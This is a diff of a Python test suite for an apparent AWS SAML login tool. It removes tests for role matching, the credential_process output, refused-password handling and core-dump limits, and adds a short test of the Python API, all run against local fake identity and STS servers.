-            cache = os.path.join(self.home, ".aws-login", "pycache")
-            self.assertEqual(os.stat(cache).st_mode & 0o777, 0o700)
-            compiled = [n for _, _, names in os.walk(cache) for n in names]
-            self.assertTrue(any(n.startswith("aws_login.") and n.endswith(".pyc")
-                                for n in compiled), compiled)
-        self.assertFalse(os.path.exists(os.path.join(folder, "__pycache__")))
-
-
-def _core_soft_limit(pid="self"):
-    with open("/proc/%s/limits" % pid) as f:
-        for line in f:
-            if line.startswith("Max core file size"):
-                return line.split()[4]
-
-
-@unittest.skipUnless(os.path.exists("/proc/self/limits"), "needs /proc")
-class CoreDumpTest(LoginTestCase):
-    """A core dump would hold the password or the keys: our processes make none."""
-
-    def setUp(self):
-        LoginTestCase.setUp(self)
-        import resource
-        soft, hard = resource.getrlimit(resource.RLIMIT_CORE)
-        if hard != resource.RLIM_INFINITY and hard < 1 << 20:
-            self.skipTest("the hard core limit is too low to tell")
-        resource.setrlimit(resource.RLIMIT_CORE, (1 << 20, hard))   # what we start with
-        self.addCleanup(resource.setrlimit, resource.RLIMIT_CORE, (soft, hard))
-        self.configure(username="alice", factor="auto")
-
-    def test_login_and_its_refresher_make_no_core_dumps(self):
-        self.configure(refresh="true")
-        proc = subprocess.Popen([sys.executable, SCRIPT, "login", "--password-stdin"],
-                                stdin=subprocess.PIPE, stdout=subprocess.PIPE,
-                                stderr=subprocess.PIPE)
-        try:
-            # It waits for the password on stdin, holding nothing yet but its limit.
-            self.assertTrue(_wait_for(lambda: _core_soft_limit(proc.pid) == "0", 10),
-                            _core_soft_limit(proc.pid))
-        finally:
-            out, err = proc.communicate((PASSWORD + "\n").encode(), timeout=30)
-        self.assertEqual(proc.returncode, 0, err)
-        pid = int(re.search(r"A refresher \(pid (\d+)\)", err.decode()).group(1))
-        self.assertTrue(_wait_for(lambda: _core_soft_limit(pid) == "0", 10))
-        self.assertEqual(_core_soft_limit(), str(1 << 20))     # ours, not changed
-
-    def test_exec_gives_the_command_the_limit_it_had(self):
-        self.configure(password=PASSWORD)
-        run = self.tool(["exec", "--", "cat", "/proc/self/limits"], terminal=False)
-        self.assertEqual(run.code, 0, run)
-        line = [l for l in run.stdout.splitlines() if l.startswith("Max core file size")][0]
-        self.assertEqual(line.split()[4], str(1 << 20))
-
-
-# ---------------------------------------------------------------------------
-# Roles by name, and the role chosen last time
-# ---------------------------------------------------------------------------
-
-ADMIN_B = "arn:aws:iam::%s:role/Admin" % ACCOUNT_B
-
-
-class RoleNameTest(unittest.TestCase):
-    ROLES = [aws_login.Role(ADMIN, PROVIDER_A), aws_login.Role(DEV, PROVIDER_A),
-             aws_login.Role(READONLY, PROVIDER_B), aws_login.Role(ADMIN_B, PROVIDER_B)]
-    ALIASES = {ACCOUNT_A: "prod", ACCOUNT_B: "Staging"}
-
-    def match(self, wanted):
-        return aws_login.match_role(self.ROLES, wanted, self.ALIASES).arn
-
-    def test_every_form_in_any_case(self):
-        for wanted, arn in [
-                (DEV, DEV), (DEV.upper(), DEV), (ADMIN_B.lower(), ADMIN_B),
-                ("team/Dev", DEV), ("TEAM/DEV", DEV), ("dev", DEV), ("Dev ", DEV),
-                ("ReadOnly", READONLY), ("readonly", READONLY),
-                ("%s/admin" % ACCOUNT_A, ADMIN), ("%s/ADMIN" % ACCOUNT_B, ADMIN_B),
-                ("%s/team/dev" % ACCOUNT_A, DEV), ("%s/Dev" % ACCOUNT_A, DEV),
-                ("PROD/Admin", ADMIN), ("staging/admin", ADMIN_B), ("prod/team/Dev", DEV),
-                ("prod/dev", DEV), ("STAGING/readonly", READONLY)]:
-            self.assertEqual(self.match(wanted), arn, wanted)
-
-    def test_ambiguous_names_list_the_matches(self):
-        for wanted in ("Admin", "admin", "ADMIN"):
-            with self.assertRaises(aws_login.RoleError) as caught:
-                self.match(wanted)
-            self.assertEqual(str(caught.exception),
-                             "role %s is ambiguous: it names %s, %s; give ACCOUNT/NAME or the "
-                             "ARN" % (wanted, ADMIN, ADMIN_B))
-            self.assertEqual(caught.exception.exit_code, 6)
-
-    def test_unknown_names_list_the_roles_offered(self):
-        offered = ", ".join(r.arn for r in self.ROLES)
-        for wanted in ("Nope", "/Admin", "team", "999999999999/Admin", "prod/ReadOnly",
-                       "staging/team/Dev", "dev/Admin", "arn:aws:iam::%s:role/Dev" % ACCOUNT_A,
-                       "Admin/prod", "%s/Admin" % ACCOUNT_A[:-1], "eam/Dev"):
-            with self.assertRaises(aws_login.RoleError) as caught:
-                self.match(wanted)
-            self.assertEqual(str(caught.exception), "the IdP does not offer role %s; it "
-                             "offers: %s" % (wanted, offered))
-        # no alias file: an alias is only an alias when the file says so
-        with self.assertRaises(aws_login.RoleError):
-            aws_login.match_role(self.ROLES, "prod/Admin")
-        self.assertEqual(aws_login.match_role(self.ROLES, "%s/Admin" % ACCOUNT_A).arn, ADMIN)
-
-    def test_an_empty_alias_names_nothing(self):
-        aliases = {ACCOUNT_A: "", ACCOUNT_B: " "}
-        for wanted in ("/Admin", " /ReadOnly"):
-            with self.assertRaises(aws_login.RoleError):
-                aws_login.match_role(self.ROLES, wanted, aliases)
-
-    def test_choose_role_prefers_the_exact_arn_and_matches_names(self):
-        self.assertEqual(aws_login.choose_role(self.ROLES, DEV).arn, DEV)
-        self.assertEqual(aws_login.choose_role(self.ROLES, "readonly").arn, READONLY)
-        with self.assertRaisesRegex(aws_login.RoleError, "ambiguous"):
-            aws_login.choose_role(self.ROLES, "Admin")
-
-    def test_role_names_from_the_command_line_are_checked(self):
-        self.assertEqual(aws_login.check_role_name(" team/Dev "), "team/Dev")
-        self.assertEqual(aws_login.check_role_name(DEV), DEV)
-        self.assertEqual(aws_login.check_role_name(DEV.upper()), DEV.upper())
-        with self.assertRaises(aws_login.ConfigError):
-            aws_login.check_role_name("arn:aws:iam::1:role/X")
-        for bad in ("", "  ", "Ad\nmin", "Ad\x1bmin", "a" * 1025):
-            with self.assertRaises(aws_login.UsageError):
-                aws_login.check_role_name(bad)
-        self.assertEqual(aws_login.check_role_name("a" * 1024), "a" * 1024)
-
-    def test_the_menu_marks_the_last_role(self):
-        lines, ordered = aws_login.role_menu(self.ROLES[:3], last=READONLY.lower())
-        self.assertEqual(lines[1:], ["    Account: %s" % ACCOUNT_A, "        [ 0 ]: Admin",
-                                     "        [ 1 ]: team/Dev", "    Account: %s" % ACCOUNT_B,
-                                     "        [ 2 ]: ReadOnly (last chosen)"])
-        self.assertEqual(aws_login.role_menu(self.ROLES[:3])[0],
-                         aws_login.role_menu(self.ROLES[:3], last=ADMIN_B)[0])
-
-
-class RoleChoiceTest(LoginTestCase):
-    """`login --role` and the menu's default, with bob (three roles) on the terminal."""
-
-    def setUp(self):
-        LoginTestCase.setUp(self)
-        self.configure(username="bob", factor="auto", password="bob-pass")
-        self.last_file = os.path.join(self.home, ".aws-login", "role", "default")
-
-    def test_login_role_takes_every_form(self):
-        self.write(os.path.join(self.home, ".aws-login", "alias"),
-                   "[accounts]\n%s = Staging\n" % ACCOUNT_B)
-        for flag, wanted, arn in [("--role", "readonly", READONLY),
-                                  ("--role", "%s/TEAM/dev" % ACCOUNT_A, DEV),
-                                  ("--role", "staging/READONLY", READONLY),
-                                  ("--role", "Admin", ADMIN),
-                                  ("--role-arn", DEV.lower(), DEV),
-                                  ("--role-arn", "dev", DEV)]:
-            run = self.tool(["login", flag, wanted], terminal=False)
-            self.assert_logged_in(run, arn)
-        self.assertNotIn("Selection", run.tty)
-
-    def test_ambiguous_or_unknown_exit_6_in_one_line_and_write_nothing(self):
-        self.idp.users["bob"]["roles"].append(PROVIDER_B + "," + ADMIN_B)
-        run = self.tool(["login", "--role", "admin"])
-        self.assert_nothing_written(run, 6)
-        self.assertIn("role admin is ambiguous: it names %s, %s" % (ADMIN, ADMIN_B), run.stderr)
-        self.assertEqual(self.sts.requests, [])
-        run = self.tool(["login", "--role", "Nope"])
-        self.assert_nothing_written(run, 6)
-        self.assertIn("the IdP does not offer role Nope; it offers: %s, %s, %s, %s"
-                      % (ADMIN, READONLY, DEV, ADMIN_B), run.stderr)
-        asked = len(self.idp.requests)
-        run = self.tool(["login", "--role", "Ad\x1bmin"], terminal=False)
-        self.assert_nothing_written(run, 2)
-        self.assertIn("'Ad\\x1bmin'", run.stderr)
-        self.assertEqual(len(self.idp.requests), asked)
-
-    def test_the_menu_offers_the_role_chosen_last_time(self):
-        run = self.tool(["login"], [("Selection: ", ""), ("Selection: ", "2")])
-        self.assert_logged_in(run, READONLY)
-        self.assertIn("Please enter a number from 0 to 2.", run.tty)     # no default yet
-        self.assertNotIn("last chosen", run.tty)
-        self.assertEqual(self.read(self.last_file), READONLY + "\n")
-        self.assertEqual(os.stat(self.last_file).st_mode & 0o777, 0o600)
-        self.assertEqual(os.stat(os.path.dirname(self.last_file)).st_mode & 0o777, 0o700)
-        run = self.tool(["login"], [("Selection [2]: ", "")])
-        self.assert_logged_in(run, READONLY)
-        self.assertIn("        [ 2 ]: ReadOnly (last chosen)\r\n", run.tty)
-        self.assertEqual(run.tty.count("last chosen"), 1)
-        self.assertNotIn("Please enter", run.tty)
-        run = self.tool(["login"], [("Selection [2]: ", "x"), ("Selection [2]: ", "1")])
-        self.assert_logged_in(run, DEV)
-        self.assertIn("Please enter a number from 0 to 2.", run.tty)
-        self.assertEqual(self.read(self.last_file), DEV + "\n")
-        run = self.tool(["login"], [("Selection [1]: ", "")])
-        self.assert_logged_in(run, DEV)
-        # --role is a choice too; another profile has a default of its own
-        self.assert_logged_in(self.tool(["login", "--role", "admin"]), ADMIN)
-        self.assert_logged_in(self.tool(["login"], [("Selection [0]: ", "")]), ADMIN)
-        self.configure("other", username="bob", factor="auto", password="bob-pass")
-        run = self.tool(["--profile", "other", "login"], [("Selection: ", "2")])
-        self.assert_logged_in(run, READONLY, profile="other")
-        self.assertEqual(self.read(self.last_file), ADMIN + "\n")
-
-    def test_a_configured_role_or_a_role_no_longer_offered_sets_no_default(self):
-        self.configure("cfg", username="bob", factor="auto", password="bob-pass", role_arn=DEV)
-        self.assert_logged_in(self.tool(["--profile", "cfg", "login"]), DEV, profile="cfg")
-        self.assertFalse(os.path.exists(os.path.join(self.home, ".aws-login", "role", "cfg")))
-        self.write(self.last_file, ADMIN_B + "\n")
-        run = self.tool(["login"], [("Selection: ", "0")])
-        self.assert_logged_in(run, ADMIN)
-        self.assertNotIn("last chosen", run.tty)
-        self.write(self.last_file, "not an arn\n")
-        self.assert_logged_in(self.tool(["login"], [("Selection: ", "1")]), DEV)
-
-
-# ---------------------------------------------------------------------------
-# Credential server: exec --server and serve
+# Credential server: `exec --server` and `serve`
 # ---------------------------------------------------------------------------
 
 # The command exec --server runs in these tests: it asks the server with urllib.
@@ -6332,6 +6527,7 @@ elif mode == "poll":
         time.sleep(interval)
     print(json.dumps(out))
 '''
+
 
 BOTOCORE_CHILD = r'''
 import json, os, sys, time
@@ -6869,595 +7065,134 @@ class ServedCredentialsTest(LoginTestCase):
                                "AWS_REGION": "eu-west-1", "AWS_DEFAULT_REGION": "eu-west-1"})
 
 
-class CredentialProcessTest(LoginTestCase):
-    AWS_CONFIG = "# my AWS config\r\n[default]\r\nregion = eu-west-1\r\n\r\n[profile x]\r\noutput=json\r\n"
+# ---------------------------------------------------------------------------
+# Python API (for vendoring)
+# ---------------------------------------------------------------------------
 
-    def setUp(self):
-        LoginTestCase.setUp(self)
-        self.aws_config = os.environ["AWS_CONFIG_FILE"]
-        self.write(self.aws_config, self.AWS_CONFIG)
-        self.configure(username="alice", factor="auto", password=PASSWORD)
-        run = self.tool(["configure", "--credential-process"], terminal=False)
-        self.assertEqual(run.code, 0, run)
-        self.assertIn("Mode: process", run.stderr)
-
-    def command(self):
-        import configparser
-        parser = configparser.RawConfigParser()
-        parser.read_string(self.read(self.aws_config))
-        import shlex
-        return shlex.split(parser.get("default", "credential_process"))
-
-    def serve(self, terminal=False, answers=()):
-        """Run the configured command as botocore does: split, no shell, stdin inherited."""
-        command = self.command()
-        return run_tool(command[1:], answers, env=dict(os.environ), terminal=terminal,
-                        argv_prefix=command[:1])
-
-    def test_configure_edits_only_that_line(self):
-        text = self.read(self.aws_config)
-        line = [l for l in text.split("\r\n") if l.startswith("credential_process")][0]
-        self.assertEqual(text, self.AWS_CONFIG.replace(
-            "region = eu-west-1\r\n", "region = eu-west-1\r\n" + line + "\r\n"))
-        self.assertIn("credential-process", line)
-        self.assertIn("SourceFileLoader", line)     # cached bytecode, by its path
-        self.assertIn(" -I -S -c ", line)          # the interpreter's floor
-        self.assertIn(json.dumps(SCRIPT), line)
-
-    def test_output_matches_the_contract_exactly(self):
-        run = self.serve()
-        self.assertEqual(run.code, 0, run)
-        data = json.loads(run.stdout)
-        self.assertEqual(sorted(data), ["AccessKeyId", "Expiration", "SecretAccessKey",
-                                        "SessionToken", "Version"])
-        self.assertIs(type(data["Version"]), int)
-        self.assertEqual(data["Version"], 1)
-        self.assertRegex(data["Expiration"], r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$")
-        self.assertGreater(aws_login.parse_timestamp(data["Expiration"]).timestamp(),
-                           time.time() + 3000)
-        issued = self.sts.issued[-1]
-        self.assertEqual((data["AccessKeyId"], data["SecretAccessKey"], data["SessionToken"]),
-                         (issued["AccessKeyId"], issued["SecretAccessKey"],
-                          issued["SessionToken"]))
-        self.assertFalse(os.path.exists(self.credentials_file))    # nothing to shadow it
-        cache = os.path.join(self.home, ".aws-login", "cache", "default")
-        self.assertEqual(os.stat(cache).st_mode & 0o777, 0o600)
-        self.assertEqual(run.stderr, "")
-
-    def test_a_module_in_the_current_folder_is_never_imported(self):
-        trap = os.path.join(self.home, "trap")
-        for module in ("argparse", "json", "ssl", "aws_login"):
-            self.write(os.path.join(trap, module + ".py"), "import sys; sys.exit(99)\n")
-        command = self.command()
-        proc = subprocess.run(command, cwd=trap, env=dict(os.environ), stdout=subprocess.PIPE,
-                              stderr=subprocess.PIPE)
-        self.assertEqual(proc.returncode, 0, proc.stderr)
-        self.assertEqual(json.loads(proc.stdout.decode())["Version"], 1)
-
-    def test_parallel_calls_renew_once(self):
-        command = self.command()
-        procs = [subprocess.Popen(command, env=dict(os.environ), stdout=subprocess.PIPE,
-                                  stderr=subprocess.PIPE) for _ in range(6)]
-        outputs = [p.communicate()[0] for p in procs]
-        self.assertEqual([p.returncode for p in procs], [0] * 6)
-        self.assertEqual(len(set(outputs)), 1)
-        self.assertEqual(len(self.sts.requests), 1)
-
-    def test_cached_credentials_need_no_network(self):
-        first = self.serve()
-        self.idp.stop()
-        self.sts.stop()
-        second = self.serve()
-        self.assertEqual((second.code, second.stdout), (0, first.stdout))
-
-    def test_under_15_minutes_left_renews_through_the_idp_session(self):
-        self.sts.clock = lambda: time.time() - 3600 + 14 * 60
-        first = self.serve()
-        second = self.serve()
-        self.assertEqual(second.code, 0, second)
-        self.assertNotEqual(json.loads(first.stdout)["AccessKeyId"],
-                            json.loads(second.stdout)["AccessKeyId"])
-        self.assertEqual(self.idp.logins, [("alice", "password"), ("alice", "session")])
-
-    def test_needs_a_person_without_terminal_fails_in_one_line(self):
-        self.configure(username="alice", factor="auto", password=None)
-        run = self.serve()
-        self.assertEqual((run.code, run.stdout), (11, ""))
-        self.assertEqual(len(run.stderr.strip().splitlines()), 1, run.stderr)
-        self.assertIn("no password is stored", run.stderr)
-
-    def test_needs_a_person_with_a_terminal_asks_there(self):
-        self.configure(username="alice", factor="auto", password=None)
-        run = self.serve(terminal=True, answers=[("Password: ", PASSWORD)])
-        self.assertEqual(run.code, 0, run)
-        self.assertEqual(json.loads(run.stdout)["AccessKeyId"], self.sts.issued[-1]["AccessKeyId"])
-        self.assertNotIn(PASSWORD, run.stdout + run.stderr + run.tty)
-
-    def test_logout_keeps_the_aws_cli_out_until_the_next_login(self):
-        self.assertEqual(self.serve().code, 0)
-        run = self.tool(["logout"], terminal=False)
-        self.assertEqual((run.code, run.stderr), (0, "Logged out of profile default.\n"))
-        run = self.serve()           # the IdP session is still alive: no quiet login
-        self.assertEqual((run.code, run.stdout), (10, ""))
-        self.assertIn("logged out", run.stderr)
-        self.assertEqual(self.tool(["logout"], terminal=False).code, 10)
-        self.assertEqual(self.tool(["login"], terminal=False).code, 0)
-        self.assertEqual(self.serve().code, 0)
-
-    def test_login_fills_the_cache_and_starts_no_refresher(self):
-        self.configure(username="alice", factor="auto", password=PASSWORD, refresh="true")
-        run = self.tool(["login"], terminal=False)
-        self.assertEqual(run.code, 0, run)
-        self.assertNotIn("refresher", run.stderr)
-        self.assertFalse(os.path.exists(self.credentials_file))
-        self.idp.stop()
-        self.assertEqual(json.loads(self.serve().stdout)["AccessKeyId"],
-                         self.sts.issued[-1]["AccessKeyId"])
-
-    def test_switching_modes_cleans_up_after_the_old_one(self):
-        self.serve()
-        run = self.tool(["configure", "--credential-process", "false"], terminal=False)
-        self.assertEqual(run.code, 0, run)
-        self.assertIn("Mode: file", run.stderr)
-        self.assertEqual(self.read(self.aws_config), self.AWS_CONFIG)
-        self.assertFalse(os.path.exists(os.path.join(self.home, ".aws-login", "cache",
-                                                     "default")))
-        self.assertEqual(self.tool(["--profile", "new", "configure", "--credential-process"],
-                                   terminal=False).code, 0)
-        self.assertEqual(self.tool(["--profile", "new", "configure", "--credential-process",
-                                    "false"], terminal=False).code, 0)
-        self.assertEqual(self.read(self.aws_config), self.AWS_CONFIG)     # no empty header
-        self.assert_logged_in(self.tool(["login"], terminal=False))
-        run = self.tool(["configure", "--credential-process"], terminal=False)
-        self.assertIsNone(self.credentials())
-        self.write(self.credentials_file, "[default]\naws_access_key_id = AKIA\n"
-                   "aws_secret_access_key = x\n")
-        run = self.tool(["configure", "--credential-process"], terminal=False)
-        self.assertIn("shadow", run.stderr)
-
-
-class ErrorKindTest(LoginTestCase):
-    """Decisions read an error's kind, set where it is raised, never its text."""
-    SLOW = True         # waits on real time: the runner starts it first
-
-    def session(self, url=None):
-        profile = aws_login.Profile("default", {"ecp_endpoint_url": url or self.idp.url,
-                                                "factor": "push"})
-        return aws_login.IdPSession(profile, "alice", aws_login.Terminal(None),
-                                    aws_login.make_ssl_context(),
-                                    aws_login.PARTITIONS["aws"][0])
-
-    def short_read_timeout(self):
-        real = aws_login.http_request
-        aws_login.http_request = lambda *a, **kw: real(*a, **dict(kw, read_timeout=0.5))
-        self.addCleanup(setattr, aws_login, "http_request", real)
-
-    def silent_server(self):
-        server = socket.socket()
-        server.bind(("127.0.0.1", 0))
-        server.listen(1)
-        self.addCleanup(server.close)
-        return "http://127.0.0.1:%d/ecp" % server.getsockname()[1]
-
-    def test_every_refusal_style_is_kind_refused(self):
-        for style in ("responder", "401", "fault", "html"):
-            self.idp.failure_style = style
-            with self.assertRaises(aws_login.AuthenticationError) as caught:
-                self.session().authenticate("wrong", "push", None)
-            self.assertEqual(caught.exception.kind, "refused", style)
-
-    def test_an_idp_that_never_answers_is_kind_timeout(self):
-        self.short_read_timeout()
-        with self.assertRaises(aws_login.AuthenticationError) as caught:
-            self.session(self.silent_server()).authenticate(PASSWORD, "push", None)
-        self.assertEqual(caught.exception.kind, "timeout")
-        self.assertIn("Duo push was not approved", str(caught.exception))
-
-    def test_network_errors_carry_their_kind(self):
-        sock = socket.socket()
-        sock.bind(("127.0.0.1", 0))
-        closed = "http://127.0.0.1:%d/" % sock.getsockname()[1]
-        sock.close()
-        for url, context, kind in (
-                (closed, None, "refused"),
-                (self.silent_server(), None, "timeout"),
-                (self.idp.url, ssl.create_default_context(), "untrusted")):
-            with self.assertRaises(aws_login.NetworkError) as caught:
-                aws_login.http_request(url, b"x", ssl_context=context, read_timeout=0.5)
-            self.assertEqual(caught.exception.kind, kind, caught.exception)
-        self.assertEqual(aws_login._network_error_kind(socket.gaierror(-2, "unknown")), "dns")
-        # A connection the IdP refuses is not a login it refused: no AuthenticationError.
-        with self.assertRaises(aws_login.NetworkError):
-            self.session(closed).authenticate(PASSWORD, "push", None)
-
-    def test_sts_retries_only_a_refused_connection(self):
-        sock = socket.socket()
-        sock.bind(("127.0.0.1", 0))
-        port = sock.getsockname()[1]
-        sock.close()
-        import contextlib
-        self.short_read_timeout()
-        self.addCleanup(setattr, aws_login, "_debug_enabled", aws_login._debug_enabled)
-        aws_login._debug_enabled = True
-        for endpoint, retries in (("http://127.0.0.1:%d/" % port, aws_login.STS_ATTEMPTS - 1),
-                                  (self.silent_server(), 0)):   # it may have reached STS
-            said = io.StringIO()
-            with contextlib.redirect_stderr(said):
-                with self.assertRaises(aws_login.NetworkError):
-                    aws_login.assume_role_with_saml(aws_login.Role(ADMIN, PROVIDER_A), b"<x/>",
-                                                    endpoint=endpoint)
-            self.assertEqual(said.getvalue().count("; retrying in "), retries, said.getvalue())
-
-
-class RefusedPasswordTest(LoginTestCase):
-    """A stored password the IdP refused is sent once, never again without a person."""
-
-    def setUp(self):
-        LoginTestCase.setUp(self)
-        self.keyring = FakeKeyring(self.home)
-        os.environ.update(self.keyring.env())
-        self.user = "alice@" + self.idp.host_port
-        self.refused = os.path.join(self.home, ".aws-login", "refused")
-        self.write(os.environ["AWS_CONFIG_FILE"], "")
-
-    def process_mode(self, **options):
-        self.configure(username="alice", factor="auto", **options)
-        run = self.tool(["configure", "--credential-process"], terminal=False)
-        self.assertEqual(run.code, 0, run)
-
-    def serve(self, terminal=False, answers=()):
-        """credential_process as botocore runs it (see CredentialProcessTest.serve)."""
-        import configparser
-        import shlex
-        parser = configparser.RawConfigParser()
-        parser.read_string(self.read(os.environ["AWS_CONFIG_FILE"]))
-        command = shlex.split(parser.get("default", "credential_process"))
-        return run_tool(command[1:], answers, env=dict(os.environ), terminal=terminal,
-                        argv_prefix=command[:1])
-
-    def passwords_sent(self):
-        return [_parse_basic(r["authorization"])[1] for r in self.idp.requests
-                if r["authorization"]]
-
-    def assert_refused_in_one_line(self, run, where):
-        self.assertEqual((run.code, run.stdout), (11, ""), run)
-        lines = run.stderr.strip().splitlines()
-        self.assertEqual(len(lines), 1, run.stderr)
-        self.assertRegex(lines[0], r"^aws_login: error: the IdP refused the password stored "
-                                   r"in %s( earlier)?, so it is not sent again until you log "
-                                   r"in .*: run `python3 \S*aws_login.py login`"
-                                   r"(; the IdP refused .*)?$" % where)
-
-    def assert_renews_without_a_person(self, password):
-        """The IdP session ended and the cache is short: the stored password is used."""
-        self.idp.expire_sessions()
-        sent = len(self.passwords_sent())
-        run = self.serve()
-        self.assertEqual(run.code, 0, run)
-        self.assertEqual(json.loads(run.stdout)["AccessKeyId"], self.sts.issued[-1]["AccessKeyId"])
-        self.assertEqual(self.passwords_sent()[sent:], [password])
-
-    def test_keyring_password_refused_once_then_a_login_asks(self):
-        self.keyring.set(self.user, "old password")
-        self.process_mode(enable_keyring="true")
-        runs = [self.serve() for _ in range(6)] + [self.tool(["login"], terminal=False)]
-        for run in runs:
-            self.assert_refused_in_one_line(run, "the keyring")
-        self.assertIn("in the keyring, so it is not sent again", runs[0].stderr)
-        self.assertTrue(runs[0].stderr.endswith(
-            "login`; the IdP refused the login (Responder/AuthnFailed: WRONGUSERPASS)\n"),
-            runs[0].stderr)
-        for run in runs[1:]:
-            self.assertIn("in the keyring earlier, so", run.stderr)
-        self.assertEqual(self.passwords_sent(), ["old password"])
-        mark = os.path.join(self.refused, "default.keyring")
-        self.assertEqual(os.stat(mark).st_mode & 0o777, 0o600)
-        self.assertEqual(os.stat(self.refused).st_mode & 0o777, 0o700)
-        self.assertEqual(self.read(mark), aws_login.REFUSED_HEADER + "\nuser %s\n" % self.user)
-        self.sts.clock = lambda: time.time() - 3600 + 14 * 60   # the cache wants renewing
-        run = self.tool(["login"], [("Password: ", PASSWORD)])
-        self.assertEqual(run.code, 0, run)
-        self.assertIn("refused the password stored in the keyring earlier", run.stderr)
-        self.assertEqual(self.passwords_sent(), ["old password", PASSWORD])
-        self.assertFalse(os.path.exists(mark))
-        self.assertEqual(self.keyring.items()["awscli_login " + self.user], PASSWORD)
-        self.assert_renews_without_a_person(PASSWORD)
-
-    def test_profile_password_refused_once_then_a_login_asks(self):
-        self.process_mode(password="old password")
-        for _ in range(6):
-            self.assert_refused_in_one_line(self.serve(), "the settings of profile default")
-        self.assertEqual(self.passwords_sent(), ["old password"])
-        mark = os.path.join(self.refused, "default.profile")
-        self.sts.clock = lambda: time.time() - 3600 + 14 * 60
-        run = self.tool(["login"], [("Password: ", PASSWORD)])
-        self.assertEqual(run.code, 0, run)
-        self.assertIn("refused the password stored in the settings of profile default "
-                      "earlier", run.stderr)
-        self.assertIn("still the one the IdP refused", run.stderr)
-        self.assertEqual(self.passwords_sent(), ["old password", PASSWORD])
-        self.assertTrue(os.path.exists(mark))   # the settings still hold the refused one
-        self.assertEqual(self.serve().code, 0)  # the cache serves
-        self.idp.expire_sessions()
-        self.sts.clock = time.time
-        self.assert_refused_in_one_line(self.serve(), "the settings of profile default")
-        self.assertEqual(self.passwords_sent(), ["old password", PASSWORD])
-        self.configure(username="alice", factor="auto", password=PASSWORD)   # a person fixes it
-        self.sts.clock = lambda: time.time() - 3600 + 14 * 60
-        self.assert_renews_without_a_person(PASSWORD)
-        self.assertFalse(aws_login.refused_earlier(
-            aws_login.read_profile("default"), "alice", "profile"))
-
-    def test_the_same_password_typed_again_lifts_the_mark(self):
-        self.process_mode(password="old password")
-        self.assert_refused_in_one_line(self.serve(), "the settings of profile default")
-        self.idp.users["alice"]["password"] = "old password"    # the IdP takes it again
-        self.sts.clock = lambda: time.time() - 3600 + 14 * 60
-        run = self.tool(["login"], [("Password: ", "old password")])
-        self.assertEqual(run.code, 0, run)
-        self.assertNotIn("still the one", run.stderr)
-        self.assertEqual(os.listdir(self.refused), [])
-        self.assert_renews_without_a_person("old password")
-
-    def test_a_mark_lapsing_and_refused_again_is_renewed(self):
-        self.process_mode(password="old password")
-        self.assert_refused_in_one_line(self.serve(), "the settings of profile default")
-        self.configure(username="alice", factor="auto", password="older password")
-        self.assert_refused_in_one_line(self.serve(), "the settings of profile default")
-        self.assert_refused_in_one_line(self.serve(), "the settings of profile default")
-        self.assertEqual(self.passwords_sent(), ["old password", "older password"])
-
-    def test_credential_process_on_a_terminal_asks_instead_of_resending(self):
-        self.keyring.set(self.user, "old password")
-        self.process_mode(enable_keyring="true")
-        self.assert_refused_in_one_line(self.serve(), "the keyring")
-        run = self.serve(terminal=True, answers=[("Password: ", PASSWORD)])
-        self.assertEqual(run.code, 0, run)
-        self.assertIn("needs you to log in again (the IdP refused the password stored in "
-                      "the keyring earlier", run.tty)
-        self.assertEqual(self.passwords_sent(), ["old password", PASSWORD])
-        self.assertEqual(os.listdir(self.refused), [])
-        self.assertNotIn(PASSWORD, run.stdout + run.stderr + run.tty)
-
-    def test_password_stdin_lifts_the_keyring_mark(self):
-        self.keyring.set(self.user, "old password")
-        self.process_mode(enable_keyring="true")
-        self.assert_refused_in_one_line(self.serve(), "the keyring")
-        run = self.tool(["login", "--password-stdin"], stdin=(PASSWORD + "\n").encode(),
-                        terminal=False)
-        self.assertEqual(run.code, 0, run)
-        self.assertEqual(os.listdir(self.refused), [])
-        self.assertEqual(self.passwords_sent(), ["old password", PASSWORD])
-
-    def in_process_keyring(self, password):
-        return in_process_keyring(self, {("awscli_login", self.user): password})
-
-    def test_python_api_raises_and_sends_nothing_after_the_mark(self):
-        store = self.in_process_keyring("old password")
-        self.configure(username="alice", factor="auto", enable_keyring="true")
-        for _ in range(3):
-            with self.assertRaisesRegex(aws_login.InteractionRequired,
-                                        "refused the password stored in the keyring"):
-                aws_login.get_credentials()
-        self.assertEqual(len(self.idp.requests), 1)
+class PythonApiTest(LoginTestCase):
+    def test_get_credentials_with_all_values_supplied(self):
+        self.configure(username="alice", factor="auto")
         credentials = aws_login.get_credentials(password=PASSWORD)
         self.assertEqual(credentials.access_key_id, self.sts.issued[-1]["AccessKeyId"])
-        self.assertEqual(store[("awscli_login", self.user)], PASSWORD)
-        self.assertEqual(os.listdir(self.refused), [])
-        self.idp.expire_sessions()
-        aws_login.get_credentials()
-        self.assertEqual(self.passwords_sent(), ["old password", PASSWORD, PASSWORD])
-
-    def test_the_mark_is_for_that_user_at_that_idp(self):
-        store = self.in_process_keyring("old password")
-        store[("awscli_login", "bob@" + self.idp.host_port)] = "bob-pass"
-        self.configure(username="alice", factor="auto", enable_keyring="true")
-        with self.assertRaises(aws_login.InteractionRequired):
-            aws_login.get_credentials()
-        self.configure(username="bob", factor="auto", enable_keyring="true",
-                       role_arn=ADMIN)
-        self.assertEqual(aws_login.get_credentials().access_key_id,
-                         self.sts.issued[-1]["AccessKeyId"])
-        self.assertEqual(self.passwords_sent(), ["old password", "bob-pass"])
-
-    def test_a_keyring_that_cannot_store_keeps_the_mark(self):
-        store = self.in_process_keyring("old password")
-
-        def refuse(service, user, password):
-            raise RuntimeError("locked keyring")
-        sys.modules["keyring"].set_password = staticmethod(refuse)
-        self.configure(username="alice", factor="auto", enable_keyring="true")
-        with self.assertRaises(aws_login.InteractionRequired):
-            aws_login.get_credentials()
-        said = io.StringIO()
-        import contextlib
-        with contextlib.redirect_stderr(said):
-            aws_login.get_credentials(password=PASSWORD)
-        self.assertIn("cannot store the password in the keyring", said.getvalue())
-        self.assertEqual(store[("awscli_login", self.user)], "old password")
+        self.assertEqual(aws_login.cached_credentials().access_key_id, credentials.access_key_id)
+        self.assertIsNone(aws_login.cached_credentials(min_seconds_left=10 ** 6))
         self.idp.expire_sessions()
         with self.assertRaises(aws_login.InteractionRequired):
-            aws_login.get_credentials()
-        self.assertEqual(self.passwords_sent(), ["old password", PASSWORD])
+            aws_login.get_credentials()                 # nothing to ask with, no prompt
+        self.assertEqual(aws_login.get_credentials(password=PASSWORD, store=False)
+                         .access_key_id, self.sts.issued[-1]["AccessKeyId"])
 
